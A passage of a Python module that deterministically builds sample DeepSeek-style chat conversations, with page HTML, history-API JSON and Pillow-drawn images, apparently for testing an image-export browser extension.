"""The bundled DeepSeek-like sample conversations, built deterministically at run time.

Each ``Conversation`` has the three things a browser sees on chat.deepseek.com: the page (DOM in
the shape described in shared/reference/deepseek-page.md: a ``.ds-virtual-list`` whose rows are
``[data-virtual-list-item-key]`` wrappers around ``.ds-message``, ``.ds-markdown`` answers, user
uploads as ``files.deepseeksvc.com`` thumbnails), the page's own history API JSON
(``/api/v0/chat/history_messages``, fragments REQUEST / RESPONSE / THINK / FILE), and the image
files. It also says what a correct extension must find (``expected``), what must fail
(``broken``) and what must be ignored (``ignored``: favicons, avatars, thumbnails).

Example::

    sample = build_sample()
    conv = sample.conversation("main")
    conv.page_url        # https://chat.deepseek.com/a/chat/s/7c0e5a52-…
    [img.prompt for img in conv.expected]

Images are made with Pillow (imported inside the functions that draw).
"""

from __future__ import annotations

import base64
import hashlib
import html
import io
import json
import random
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

CHAT_HOST = "chat.deepseek.com"
FILES_HOST = "files.deepseeksvc.com"
GEN_HOST = "image.pollinations.ai"
#: A public image host: answers ``Access-Control-Allow-Origin: *``, so a credentialed
#: cross-origin read of it fails, and the extension holds no host permission for it.
CDN_HOST = "cdn.example-images.test"
#: Every host name the sample server answers for (and the bundled certificate covers).
HOSTS: tuple[str, ...] = (CHAT_HOST, FILES_HOST, GEN_HOST, CDN_HOST)

#: The bearer token the page keeps in localStorage.userToken and sends to the history API.
TOKEN = "sample-token-6f1d2c0b9a8e4f37"
#: The web client version the page sends; without an x-client-version header the API answers the
#: reduced legacy shape (no fragments, no signed paths), as the real one does.
CLIENT_VERSION = "2.5.0"

MIME = {"png": "image/png", "jpeg": "image/jpeg", "webp": "image/webp", "svg": "image/svg+xml"}


# --------------------------------------------------------------------------- images


def _palette(seed: int) -> tuple[tuple[int, int, int], tuple[int, int, int]]:
    rnd = random.Random(seed)
    a = (rnd.randrange(40, 220), rnd.randrange(40, 220), rnd.randrange(40, 220))
    b = (rnd.randrange(40, 220), rnd.randrange(40, 220), rnd.randrange(40, 220))
    return a, b


def draw_image(width: int, height: int, seed: int, label: str, *, noise: bool = False, alpha=False):
    """A deterministic picture: gradient, shapes and a label; ``noise`` fills it with random
    pixels so it does not compress (the ~2 MB benchmark images)."""
    from PIL import Image, ImageDraw, ImageFont

    rnd = random.Random(seed)
    if noise:
        img = Image.frombytes("RGB", (width, height), rnd.randbytes(width * height * 3))
    else:
        a, b = _palette(seed)
        grad = Image.linear_gradient("L").resize((width, height))
        img = Image.composite(
            Image.new("RGB", (width, height), a), Image.new("RGB", (width, height), b), grad
        )
        draw = ImageDraw.Draw(img)
        for _ in range(6):
            x, y = rnd.randrange(width), rnd.randrange(height)
            r = rnd.randrange(max(4, min(width, height) // 10), max(8, min(width, height) // 3))
            color = (rnd.randrange(256), rnd.randrange(256), rnd.randrange(256))
            draw.ellipse((x - r, y - r, x + r, y + r), fill=color, outline=(255, 255, 255), width=2)
    draw = ImageDraw.Draw(img)
    try:
        font = ImageFont.load_default(size=max(12, min(width, height) // 10))
    except TypeError:  # Pillow without FreeType: the fixed bitmap font
        font = ImageFont.load_default()
    draw.rectangle((0, height - height // 6, width, height), fill=(0, 0, 0))
    # Pillow's bundled font has no CJK or emoji glyphs: draw the ASCII part of the label only.
    text = " ".join(label.encode("ascii", "ignore").decode().split())
    draw.text((8, height - height // 6 + 4), text, fill=(255, 255, 255), font=font)
    if alpha:
        mask = Image.new("L", (width, height), 255)
        ImageDraw.Draw(mask).ellipse((0, 0, width // 3, height // 3), fill=96)
        img = img.convert("RGBA")
        img.putalpha(mask)
    return img


def encode_image(img, fmt: str, *, exif: bool = False) -> bytes:
    buf = io.BytesIO()
    if fmt == "png":
        img.save(buf, "PNG", compress_level=1)
    elif fmt == "jpeg":
        kwargs: dict[str, Any] = {"quality": 90}
        if exif:  # a phone photo: camera EXIF that a lossless save must keep
            from PIL import Image

            ex = Image.Exif()
            ex[0x010F] = "SampleCam"  # Make
            ex[0x0110] = "SC-1 Pro"  # Model
            ex[0x0132] = "2026:10:01 12:34:56"  # DateTime
            kwargs["exif"] = ex.tobytes()
        img.convert("RGB").save(buf, "JPEG", **kwargs)
    elif fmt == "webp":
        img.save(buf, "WEBP", quality=88, method=2)
    else:
        msg = f"unknown sample format {fmt!r}"
        raise ValueError(msg)
    return buf.getvalue()


def make_image_bytes(fmt: str, width: int, height: int, seed: int, label: str, **kw) -> bytes:
    exif = kw.pop("exif", False)
    return encode_image(draw_image(width, height, seed, label, **kw), fmt, exif=exif)


def make_thumbnail(body: bytes) -> bytes:
    """What ``ty=t`` serves: a small JPEG, deliberately different from the original."""
    from PIL import Image

    img = Image.open(io.BytesIO(body))
    img.thumbnail((120, 90))
    buf = io.BytesIO()
    img.convert("RGB").save(buf, "JPEG", quality=70)
    return buf.getvalue()


# --------------------------------------------------------------------------- model


@dataclass(frozen=True)
class Upload:
    """A user's uploaded image on DeepSeek's file host."""

    file_id: str
    file_name: str
    fmt: str
    body: bytes
    thumb: bytes
    width: int
    height: int
    chip: bool = False
    """Show a file-name chip next to the thumbnail (OCR-mode look) besides the thumbnail."""

    @property
    def state(self) -> str:
        return "sig." + hashlib.sha256(self.file_id.encode()).hexdigest()[:16]

    def url(self, ty: str) -> str:
        """``ty=t`` thumbnail, ``ty=p`` large image, ``ty=r`` raw original (attachment)."""
        return f"https://{FILES_HOST}/api/file?file_id={self.file_id}&state={self.state}&ty={ty}"

    @property
    def signed_path(self) -> str:
        return f"/file?file_id={self.file_id}&state={self.state}"


@dataclass(frozen=True)
class GenImage:
    """A markdown image in an answer, linking an outside generator whose URL holds the prompt."""

    prompt: str
    seed: int
    width: int
    height: int
    model: str
    fmt: str
    body: bytes
    alt: str
    broken: str | None = None
    """``"404"`` (404 with an HTML page) or ``"html"`` (200 with an HTML "verification" page)."""

    @property
    def url(self) -> str:
        return (
            f"https://{GEN_HOST}/prompt/{quote(self.prompt, safe='')}"
            f"?width={self.width}&height={self.height}&seed={self.seed}&model={self.model}&nologo=true"
        )


@dataclass(frozen=True)
class InlineImage:
    """An image the page made itself: ``data:`` in its markup, or ``blob:`` from its script."""

    scheme: str  # "data" | "blob"
    fmt: str
    body: bytes
    alt: str

    @property
    def data_url(self) -> str:
        return f"data:{MIME[self.fmt]};base64,{base64.b64encode(self.body).decode()}"


@dataclass(frozen=True)
class CdnImage:
    """A markdown image in an answer, served by the public ``CDN_HOST``."""

    path: str
    fmt: str
    body: bytes
    alt: str

    @property
    def url(self) -> str:
        return f"https://{CDN_HOST}/{self.path}"


@dataclass(frozen=True)
class CodeBlock:
    """A fenced code block in an answer. ``drawing``: an SVG written as code (an ``svg`` block,
    or an ``xml``/``html`` block holding one ``<svg>`` document), an image the extension lists;
    ``marker`` is text inside the drawing that a saved file must contain."""

    lang: str
    code: str
    drawing: bool = False
    marker: str = ""


@dataclass
class Turn:
    role: str  # "user" | "assistant"
    text: str
    """User: the full prompt. Assistant: markdown-ish paragraphs separated by blank lines."""
    uploads: list[Upload] = field(default_factory=list)
    images: list[GenImage] = field(default_factory=list)
    inline: list[InlineImage] = field(default_factory=list)
    think: str | None = None
    diagram: tuple[str, str] | None = None
    """(mermaid source, rendered SVG markup)."""
    params: str | None = None
    """A visible parameter line, e.g. ``Seed: 42 · Steps: 30``."""
    search: bool = False
    """Web-search answer: source favicons and citation chips (never content)."""
    cdn: list[CdnImage] = field(default_factory=list)
    code: list[CodeBlock] = field(default_factory=list)
    """Fenced code blocks, shown after the images and before the diagram."""


@dataclass(frozen=True)
class ExpectedImage:
    """One image a correct extension finds, and what must end up embedded in the saved file."""

    url: str
    """The URL whose bytes are the original (``data:``/``blob:`` for page-made images)."""
    body: bytes
    fmt: str
    kind: str  # generated | uploaded | diagram
    prompts: tuple[str, ...]
    """Acceptable embedded prompts: the user turn's, or (generated) the generator URL's."""
    turn_index: int
    mounted: bool
    seed: int | None = None
    file_name: str | None = None

    @property
    def prompt(self) -> str:
        return self.prompts[0]


@dataclass
class Conversation:
    key: str
    id: str
    title: str
    turns: list[Turn]
    window: int | None = None
    """Rows mounted at a time by the virtual list; ``None`` mounts every row."""
    row_height: int = 520
    live: bool = False
    """Markup as others captured it from the live page in Sept-Oct 2026 (reference §13): a second
    ``.ds-virtual-list`` (the right-edge strip) first in the document, code-block banners without
    ``.md-code-block-infostring``, Mermaid with Diagram/Code tabs that renders a moment after its
    row mounts and gets new random ids on every render, a toolbar of six buttons."""
    edited: tuple[int, str, str] | None = None
    """``(turn index, old prompt, old answer)``: that user turn was edited; the old branch stays in
    the history data, and the shown branch's message ids (= row keys) skip two."""

    def message_id(self, index: int) -> int:
        """The message id (and row key) of shown turn ``index``."""
        if self.edited and index >= self.edited[0]:
            return index + 3
        return index + 1

    @property
    def page_url(self) -> str:
        return f"https://{CHAT_HOST}/a/chat/s/{self.id}"

    @property
    def api_path(self) -> str:
        return f"/api/v0/chat/history_messages?chat_session_id={self.id}"

    def is_mounted(self, index: int) -> bool:
        return self.window is None or index >= len(self.turns) - self.window

    def _user_prompt_before(self, index: int) -> str:
        for i in range(index, -1, -1):
            if self.turns[i].role == "user":
                return self.turns[i].text
        return ""

    @property
    def expected(self) -> list[ExpectedImage]:
        """Every raster image to be saved (diagrams are in ``diagrams``)."""
        out: list[ExpectedImage] = []
        for i, turn in enumerate(self.turns):
            prompt = self._user_prompt_before(i)
            mounted = self.is_mounted(i)
            for up in turn.uploads:
                out.append(
                    ExpectedImage(
                        up.url("r"),
                        up.body,
                        up.fmt,
                        "uploaded",
                        (prompt,),
                        i,
                        mounted,
                        file_name=up.file_name,
                    )
                )
            for g in turn.images:
                if not g.broken:
                    out.append(
                        ExpectedImage(
                            g.url,
                            g.body,
                            g.fmt,
                            "generated",
                            (prompt, g.prompt),
                            i,
                            mounted,
                            seed=g.seed,
                        )
                    )
            for im in turn.inline:
                out.append(
                    ExpectedImage(
                        f"{im.scheme}:", im.body, im.fmt, "generated", (prompt,), i, mounted
                    )
                )
            for c in turn.cdn:
                out.append(ExpectedImage(c.url, c.body, c.fmt, "generated", (prompt,), i, mounted))
        return out

    @property
    def drawings(self) -> list[ExpectedImage]:
        """SVG drawings written as code blocks (listed from the page's data, mounted or not);
        ``body`` is the code, which still holds what the extension must remove."""
        out = []
        for i, turn in enumerate(self.turns):
            for block in turn.code:
                if block.drawing:
                    prompt = self._user_prompt_before(i)
                    body = block.code.encode()
                    out.append(
                        ExpectedImage(
                            f"svg-code:{block.marker}", body, "svg", "diagram", (prompt,), i, True
                        )
                    )
        return out

    @property
    def diagrams(self) -> list[ExpectedImage]:
        out = []
        for i, turn in enumerate(self.turns):
            if turn.diagram:
                svg = turn.diagram[1].encode()
                out.append(
                    ExpectedImage(
                        "svg:",
                        svg,
                        "svg",
                        "diagram",
                        (self._user_prompt_before(i),),
                        i,
                        self.is_mounted(i),
                    )
                )
        return out

    @property
    def broken(self) -> list[GenImage]:
        return [g for t in self.turns for g in t.images if g.broken]

    def history(self, *, current_shape: bool) -> dict[str, Any]:
        """The ``history_messages`` envelope; ``current_shape`` = the request had x-client-*."""
        messages = []
        shown = list(enumerate(self.turns))
        branch: list[tuple[int, Turn, int, int | None]] = [
            (i, t, self.message_id(i), self.message_id(i - 1) if i else None) for i, t in shown
        ]
        if self.edited:
            at, old_prompt, old_answer = self.edited
            parent = self.message_id(at - 1) if at else None
            branch += [
                (at, Turn("user", old_prompt), at + 1, parent),
                (at + 1, Turn("assistant", old_answer), at + 2, at + 1),
            ]
            branch.sort(key=lambda entry: entry[2])
        for i, turn, message_id, parent_id in branch:
            msg: dict[str, Any] = {
                "message_id": message_id,
                "parent_id": parent_id,
                "model": "",
                "role": turn.role.upper(),
                "status": "FINISHED",
                "thinking_enabled": bool(turn.think),
                "search_enabled": turn.search,
                "inserted_at": 1789300000.0 + 60 * i,
                "accumulated_token_usage": 300 * (i + 1),
                "files": [],
                "fragments": [],
            }
            markdown = _markdown(turn)
            if current_shape:
                frags: list[dict[str, Any]] = []
                if turn.uploads:
                    frags.append(
                        {
                            "id": len(frags) + 1,
                            "type": "FILE",
                            "files": [
                                {
                                    "id": u.file_id,
                                    "file_name": u.file_name,
                                    "file_size": len(u.body),
                                    "is_image": True,
                                    "signed_path": u.signed_path,
                                }
                                for u in turn.uploads
                            ],
                        }
                    )
                if turn.think:
                    frags.append(
                        {
                            "id": len(frags) + 1,
                            "type": "THINK",
                            "content": turn.think,
                            "elapsed_secs": 4.2,
                        }
                    )
                kind = "REQUEST" if turn.role == "user" else "RESPONSE"
                frags.append(
                    {
                        "id": len(frags) + 1,
                        "type": kind,
                        "content": markdown,
                        "references": [],
                        "stage_id": 1,
                    }
                )
                msg["fragments"] = frags
            else:  # legacy shape: text only, files without signed paths
                msg["content"] = markdown
                msg["thinking_content"] = turn.think
                msg["files"] = [
                    {
                        "id": u.file_id,
                        "file_name": u.file_name,
                        "file_size": len(u.body),
                        "status": "SUCCESS",
                    }
                    for u in turn.uploads
                ]
            messages.append(msg)
        return {
            "code": 0,
            "msg": "",
            "data": {
                "biz_code": 0,
                "biz_msg": "",
                "biz_data": {
                    "chat_session": {
                        "id": self.id,
                        "seq_id": 104211,
                        "agent": "chat",
                        "character": None,
                        "title": self.title,
                        "title_type": "SYSTEM",
                        "version": len(self.turns),
                        "current_message_id": self.message_id(len(self.turns) - 1),
                        "pinned": False,
                        "inserted_at": 1789300000.123,
                        "updated_at": 1789300000.0 + 60 * len(self.turns),
                    },
                    "chat_messages": messages,
                    "cache_valid": False,
                    "route_id": None,
                },
            },
        }


def _markdown(turn: Turn) -> str:
    if turn.role == "user":
        return turn.text
    parts = [turn.text]
    parts += [f"![{g.alt}]({g.url})" for g in turn.images]
    parts += [f"![{c.alt}]({c.url})" for c in turn.cdn]
    if turn.params:
        parts.append(turn.params)
    parts += [f"```{b.lang}\n{b.code}\n```" for b in turn.code]
    if turn.diagram:
        parts.append(f"```mermaid\n{turn.diagram[0]}\n```")
    return "\n\n".join(parts)


@dataclass
class Sample:
    conversations: list[Conversation]
    static: dict[str, tuple[bytes, str]]
    """chat.deepseek.com paths → (body, content type): favicon, avatar, search-source icons."""

    def conversation(self, key: str) -> Conversation:
        for conv in self.conversations:
            if conv.key == key:
                return conv
        msg = f"no sample conversation {key!r}"
        raise KeyError(msg)

    def by_id(self, conv_id: str) -> Conversation | None:
        return next((c for c in self.conversations if c.id == conv_id), None)

    @property
    def uploads(self) -> dict[str, Upload]:
        return {u.file_id: u for c in self.conversations for t in c.turns for u in t.uploads}

    @property
    def generated(self) -> dict[str, GenImage]:
        """Keyed by the generator URL's decoded prompt plus seed (what the server looks up)."""
        return {
            gen_key(g.prompt, str(g.seed)): g
            for c in self.conversations
            for t in c.turns
            for g in t.images
        }

    @property
    def cdn(self) -> dict[str, CdnImage]:
        """``CDN_HOST`` paths → images."""
        return {c.path: c for conv in self.conversations for t in conv.turns for c in t.cdn}

    @property
    def ignored_urls(self) -> list[str]:
        return [f"https://{CHAT_HOST}{p}" for p in self.static]


def gen_key(prompt: str, seed: str) -> str:
    return f"{prompt}\x00{seed}"


# --------------------------------------------------------------------------- page markup


_ICON_COPY = (
    '<div class="ds-icon-button" role="button" tabindex="0" aria-label="copy">'
    '<svg viewBox="0 0 16 16" width="16" height="16"><rect x="4" y="4" width="8" height="8"/>'
    "</svg></div>"
)
_ICON_EDIT = (
    '<div class="ds-icon-button" role="button" tabindex="0" aria-label="edit">'
    '<svg viewBox="0 0 16 16" width="16" height="16"><path d="M3 13l2-6 6-4"/></svg></div>'
)
_ICON_REGEN = (
    '<div class="ds-icon-button ds-button--xs" role="button" tabindex="0" aria-label="regenerate">'
    '<svg viewBox="0 0 16 16" width="16" height="16"><path d="M8 3a5 5 0 1 0 5 5"/></svg></div>'
)


def _static(name: str) -> str:
    from importlib import resources

    return (resources.files("dsexport.demo") / "sample" / name).read_text(encoding="utf-8")


def _esc(text: str) -> str:
    return html.escape(text, quote=True)


def _user_row(key: int, turn: Turn) -> str:
    parts = [
        f'<div data-virtual-list-item-key="{key}" class="_9663006 _2c189bc">',
        '<div class="d29f3d7d ds-message _63c77b1">',
    ]
    for up in turn.uploads:
        parts.append(
            '<div class="_76cd190" tabindex="0"><div class="e4a9b2c1">'
            f'<img class="b1f7e0aa" src="{_esc(up.url("t"))}" alt="" width="120" height="90" '
            'loading="lazy"></div></div>'
        )
        if up.chip:
            kind = up.fmt.upper().replace("JPEG", "JPG")
            size = f"{len(up.body) / 1024:.0f}KB"
            parts.append(
                '<div class="_0004e59" tabindex="0">'
                '<svg viewBox="0 0 24 24" width="24" height="24">'
                '<path d="M6 2h9l5 5v15H6z"/></svg><div class="a5b6c7d8">'
                f'<div class="f3a54b52">{_esc(up.file_name)}</div>'
                f'<div class="b9c0d1e2">{kind} {size}</div></div></div>'
            )
    long = len(turn.text) > 160
    parts.append(
        f'<div class="fbb737a4"><div class="ds-collapsible-text" style="max-height:'
        f'{"96px" if long else "192px"}">{_esc(turn.text)}</div>'
    )
    if long:
        parts.append(
            '<div class="ds-collapsible-text-toggle-button _5b3c8cd" role="button">展开</div>'
        )
    parts.append("</div></div>")
    parts.append(
        f'<div class="_11d6b3a"><div class="_425ea0b"><div class="ds-flex _78e0558">'
        f"{_ICON_COPY}{_ICON_EDIT}</div></div></div></div>"
    )
    return "".join(parts)


def _assistant_row(key: int, turn: Turn, inline_ids: dict[int, str]) -> str:
    parts = [
        f'<div data-virtual-list-item-key="{key}" class="_4f9bf79 d7dc56a8 _43c05b5">',
        '<div class="ds-message _63c77b1">',
    ]
    if turn.think:
        parts.append(
            '<div class="_74c0879"><div class="_245c867 _34a54ec"><div class="_5ab5d64">'
            '<span>已深度思考（用时 4 秒）</span><svg viewBox="0 0 16 16" width="12" height="12">'
            '<path d="M4 6l4 4 4-4"/></svg></div></div><div class="c2b72bb8"></div>'
            '<div class="e1675d8b ds-think-content _767406f"><div class="ds-markdown">'
            f'<p class="ds-markdown-paragraph">{_esc(turn.think)}</p></div></div>'
            '<div class="_8f7678d"></div></div>'
        )
    if turn.search:
        parts.append(
            '<div class="_5255ff8 _4d41763">已阅读 2 个网页</div><div class="c1d2e3f4">'
            f'<img class="site_logo_img" src="https://{CHAT_HOST}/static/site-icons/1.png" alt="" '
            'width="16" height="16">'
            f'<img class="site_logo_img" src="https://{CHAT_HOST}/static/site-icons/2.png" alt="" '
            'width="16" height="16"></div>'
        )
    parts.append('<div class="ds-markdown ds-assistant-message-main-content">')
    for para in turn.text.split("\n\n"):
        cite = ""
        if turn.search:
            cite = (
                '<a class="ds-markdown-cite" href="https://example.com/paper" target="_blank" '
                'rel="noreferrer"><span>1</span></a>'
            )
        parts.append(f'<p class="ds-markdown-paragraph">{_esc(para)}{cite}</p>')
    for g in turn.images:
        parts.append(
            f'<p class="ds-markdown-paragraph"><img src="{_esc(g.url)}" alt="{_esc(g.alt)}"></p>'
        )
    for im in turn.inline:
        if im.scheme == "data":
            parts.append(
                f'<p class="ds-markdown-paragraph"><img src="{im.data_url}" '
                f'alt="{_esc(im.alt)}"></p>'
            )
        else:
            parts.append(
                f'<p class="ds-markdown-paragraph"><img data-sample-blob="{inline_ids[id(im)]}"'
                f' alt="{_esc(im.alt)}"></p>'
            )
    if turn.params:
        for line in turn.params.split("\n"):
            parts.append(f'<p class="ds-markdown-paragraph">{_esc(line)}</p>')
    for c in turn.cdn:
        parts.append(
            f'<p class="ds-markdown-paragraph"><img src="{_esc(c.url)}" alt="{_esc(c.alt)}"></p>'
        )
    for block in turn.code:
        parts.append(
            '<div class="md-code-block md-code-block-light"><div class="md-code-block-banner-wrap">'
            f'<div class="md-code-block-banner"><span class="md-code-block-infostring">'
            f"{_esc(block.lang)}</span></div></div><pre>{_code_lines(block.code)}</pre></div>"
        )
    if turn.search:
        # KaTeX renders some glyphs as tiny inline SVGs: decoration, never content.
        parts.append(
            '<p class="ds-markdown-paragraph">面积 <span class="katex"><span class="katex-html">'
            '<svg width="0.4em" height="1.08em" viewBox="0 0 400 1080"><path d="M95 702L400 0"/>'
            "</svg>A</span></span></p>"
        )
    if turn.diagram:
        parts.append(
            '<div class="md-code-block md-code-block-light"><div class="md-code-block-banner-wrap">'
            '<div class="md-code-block-banner">'
            '<span class="md-code-block-infostring">mermaid</span>'
            '<div class="ds-button ds-button--xs" role="button" tabindex="0">'
            '<span class="ds-button__content">图表</span></div>'
            '<div class="ds-button ds-button--xs" role="button" tabindex="0">'
            '<span class="ds-button__content">代码</span></div></div></div>'
            f'<div class="d4e5f6a7">{turn.diagram[1]}</div></div>'
        )
    parts.append("</div></div>")
    parts.append(f'<div class="ds-flex _0a3d93b">{_ICON_COPY}{_ICON_REGEN}</div></div>')
    return "".join(parts)


def _code_lines(code: str) -> str:
    """A code block's <pre> content as the live page renders it: one <span> per line (§13)."""
    return "".join(f"<span>{_esc(line)}</span>" for line in code.split("\n"))


# -- the live page's markup (reference §13), for conversations with ``live=True``

_LIVE_BUTTON = (
    '<div role="button" class="ds-button ds-button--xs"><svg viewBox="0 0 16 16" width="16" '
    'height="16"><rect x="4" y="4" width="8" height="8"/></svg><span>{label}</span></div>'
)


def _live_banner(lang: str, tabs: bool = False) -> str:
    tab_html = (
        '<div class="_2f1e3ab" role="tablist"><div role="tab" aria-selected="true" '
        'class="ds-segmented-button ds-segmented-button--selected">图表</div><div role="tab" '
        'aria-selected="false" class="ds-segmented-button">代码</div></div>'
        if tabs
        else ""
    )
    buttons = _LIVE_BUTTON.format(label="复制") + _LIVE_BUTTON.format(label="下载")
    return (
        '<div class="md-code-block-banner-wrap"><div class="md-code-block-banner '
        'md-code-block-banner-lite"><div class="_121d384"><div class="d2a24f03">'
        f'<span class="d813de27">{_esc(lang)}</span></div>{tab_html}'
        f'<div class="efa13877">{buttons}</div></div></div></div>'
    )


def _live_code_block(block: CodeBlock) -> str:
    deco = '<svg class="_9d8e7f6" viewBox="0 0 10 10"><path d="M0 0h10"/></svg>'
    return (
        f'<div class="md-code-block md-code-block-light">{_live_banner(block.lang)}'
        f"<pre>{_code_lines(block.code)}</pre>{deco}{deco}</div>"
    )


def _live_user_row(key: int, turn: Turn) -> str:
    return (
        f'<div data-virtual-list-item-key="{key}" class="_9663006 _2c189bc">'
        '<div class="d29f3d7d ds-message _63c77b1"><div class="fbb737a4">'
        f'<div class="ds-collapsible-text">{_esc(turn.text)}</div></div></div>'
        f'<div class="_11d6b3a"><div class="_425ea0b"><div class="ds-flex _78e0558">'
        f"{_ICON_COPY}{_ICON_EDIT}</div></div></div></div>"
    )


def _live_assistant_row(key: int, turn: Turn, chart: int | None) -> str:
    parts = [
        f'<div data-virtual-list-item-key="{key}" class="_4f9bf79 _43c05b5">',
        '<div class="ds-message _63c77b1">',
    ]
    if turn.think:
        parts.append(
            '<div class="_74c0879"><div class="e1675d8b ds-think-content _767406f">'
            f'<div class="ds-markdown"><p class="ds-markdown-paragraph">{_esc(turn.think)}</p>'
            "</div></div></div>"
        )
    parts.append('<div class="ds-markdown ds-assistant-message-main-content">')
    parts += [f'<p class="ds-markdown-paragraph">{_esc(p)}</p>' for p in turn.text.split("\n\n")]
    for g in turn.images:
        parts.append(
            f'<p class="ds-markdown-paragraph"><img src="{_esc(g.url)}" alt="{_esc(g.alt)}"></p>'
        )
    for c in turn.cdn:
        parts.append(
            f'<p class="ds-markdown-paragraph"><img src="{_esc(c.url)}" alt="{_esc(c.alt)}"></p>'
        )
    parts += [_live_code_block(block) for block in turn.code]
    if chart is not None:
        # No <pre> while the diagram tab shows; page.js renders the chart a moment after mount.
        parts.append(
            f'<div class="md-code-block md-code-block-light">{_live_banner("mermaid", tabs=True)}'
            '<div class="_4a1b2c3"><style>._4a1b2c3 svg{max-width:100%}</style>'
            f'<div data-sample-chart="{chart}"></div></div></div>'
        )
    parts.append("</div></div>")
    labels = ["复制", "重新生成", "喜欢", "不喜欢", "朗读", "分享"]
    buttons = "".join(
        f'<div role="button" aria-label="{label}" class="ds-button ds-button--iconLabelTertiary '
        'ds-button--icon _17e543b"><svg viewBox="0 0 16 16" width="16" height="16">'
        '<path d="M2 2h12v12H2z"/></svg></div>'
        for label in labels
    )
    parts.append(f'<div class="ds-flex _0a3d93b">{buttons}</div></div>')
    return "".join(parts)


def _live_strip(conv: Conversation) -> str:
    """The fixed strip at the right edge: a second virtual list, first in the document, whose
    rows are plain divs without row keys or ``ds-*`` classes."""
    texts = "".join(
        f'<div class="_81e7b5e">{_esc(t.text[:40])}</div>' for t in conv.turns if t.role == "user"
    )
    return (
        '<div class="_3c1f8e2 sample-strip"><div class="ds-virtual-list ds-scroll-area">'
        f'<div class="ds-virtual-list-items"><div class="ds-virtual-list-visible-items">{texts}'
        "</div></div></div></div>"
    )


def page_html(sample: Sample, conv: Conversation) -> str:
    inline: dict[str, dict[str, str]] = {}
    inline_ids: dict[int, str] = {}
    for turn in conv.turns:
        for im in turn.inline:
            if im.scheme == "blob":
                ident = f"b{len(inline)}"
                inline_ids[id(im)] = ident
                inline[ident] = {"mime": MIME[im.fmt], "b64": base64.b64encode(im.body).decode()}
    charts: list[dict[str, str]] = []
    rows = []
    for i, t in enumerate(conv.turns):
        key = conv.message_id(i)
        if conv.live and t.role == "user":
            rows.append(_live_user_row(key, t))
        elif conv.live:
            chart = None
            if t.diagram:
                chart = len(charts)
                charts.append({"svg": t.diagram[1], "code": t.diagram[0]})
            rows.append(_live_assistant_row(key, t, chart))
        else:
            rows.append(
                _user_row(key, t) if t.role == "user" else _assistant_row(key, t, inline_ids)
            )
    config = {
        "id": conv.id,
        "token": TOKEN,
        "window": conv.window,
        "rowHeight": conv.row_height,
        "clientVersion": CLIENT_VERSION,
        "charts": charts,
        "apiPath": conv.api_path,
    }
    links = []
    for other in sample.conversations:
        if other.key == "bench" and conv.key != "bench":
            continue
        current = ' aria-current="page"' if other is conv else ""
        links.append(
            f'<a class="_546d736" href="/a/chat/s/{other.id}"{current}>'
            f'<div class="c08e6e93">{_esc(other.title)}</div></a>'
        )
    overlay = ""
    first_upload = next((u for t in conv.turns for u in t.uploads), None)
    if first_upload:
        # The image viewer DeepSeek opens on a thumbnail click; hidden until then. Its download
        # button is what the automatic-capture test presses (via #download).
        overlay = (
            '<div class="ds-modal-wrapper" hidden><div class="_519be07">'
            f'<div role="heading">{_esc(first_upload.file_name)}</div>'
            f'<img src="{_esc(first_upload.url("p"))}" alt="">'
            f'<a class="ds-sample-download" href="{_esc(first_upload.url("r"))}" '
            f'download="{_esc(first_upload.file_name)}">下载</a></div></div>'
        )

    def script_json(ident: str, value: Any) -> str:
        text = json.dumps(value, ensure_ascii=False).replace("</", "<\\/")
        return f'<script type="application/json" id="{ident}">{text}</script>'

    return f"""<!doctype html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>{_esc(conv.title)} - DeepSeek</title>
<meta property="og:title" content="{_esc(conv.title)}">
<link rel="icon" href="/favicon.ico">
<style>{_static("page.css")}</style>
</head>
<body class="zh_CN light">
{_live_strip(conv) if conv.live else ""}
<div id="root"><div class="ds-theme"><div class="a1c0ffee">
<aside class="b8812f16 a2f3d50e"><div class="ds-scroll-area _3586175"><div class="_77cdc67">
<div class="f3d18f6a">今天</div>{"".join(links)}</div>
<div class="sample-user">
<img class="_avatar" src="/static/avatar.png" width="32" height="32" alt="">
<span>sample@example.com</span></div></div></aside>
<main class="c7dddcde">
<div class="_2be88ba"><div class="afa34042 e37a04e4 e0a1edb7">{_esc(conv.title)}</div>
<div class="ds-icon-button" role="button" tabindex="0" aria-label="share"><svg viewBox="0 0 16 16"
width="16" height="16"><path d="M4 8h8M8 4l4 4-4 4"/></svg></div></div>
<div class="_871cbca">
<div class="ds-virtual-list ds-virtual-list--printable ds-scroll-area _765a5cd">
<div class="ds-virtual-list-items _6f2c522"><div class="ds-virtual-list-visible-items"></div></div>
</div>
<div class="_77cefa5"><div class="aaff8b8f">
<textarea id="chat-input" class="_27c9245 ds-scroll-area" rows="2"
 placeholder="给 DeepSeek 发送消息 "></textarea>
<div class="ec4f5d61">
<div role="radio" aria-checked="false" data-model-type="default" class="ds-toggle-button">快速</div>
<div role="radio" aria-checked="true" data-model-type="vision"
 class="ds-toggle-button ds-toggle-button--selected">识图</div>
<input type="file" accept="image/*" multiple style="display:none"></div></div></div>
</div>
</main></div></div></div>
{overlay}
{script_json("ds-sample-config", config)}
{script_json("ds-sample-rows", rows)}
{script_json("ds-sample-inline", inline)}
<script>{_static("page.js")}</script>
</body>
</html>
"""


# --------------------------------------------------------------------------- the sample

_MERMAID = "flowchart LR\n  草图 --> 上色 --> 定稿"
_MERMAID_SVG = (
    '<svg id="mermaid-1" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 240 60" width="240" '
    'height="60" role="graphics-document document" aria-roledescription="flowchart-v2">'
    '<rect x="5" y="15" width="60" height="30" fill="#eef" stroke="#99c"/>'
    '<text x="15" y="35" font-size="12">草图</text><path d="M65 30h25" stroke="#666"/>'
    '<rect x="90" y="15" width="60" height="30" fill="#eef" stroke="#99c"/>'
    '<text x="100" y="35" font-size="12">上色</text><path d="M150 30h25" stroke="#666"/>'
    '<rect x="175" y="15" width="60" height="30" fill="#eef" stroke="#99c"/>'
    '<text x="185" y="35" font-size="12">定稿</text></svg>'
)


def _uuid(n: int) -> str:
    h = hashlib.sha256(f"dsexport-sample-{n}".encode()).hexdigest()
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def _file_id(tag: str) -> str:
    h = hashlib.sha256(tag.encode()).hexdigest()
    return f"file-{h[:8]}-{h[8:12]}-4{h[13:16]}-9{h[17:20]}-{h[20:32]}"


def _upload(
    tag: str, name: str, fmt: str, w: int, h: int, seed: int, *, chip=False, exif=False, alpha=False
) -> Upload:
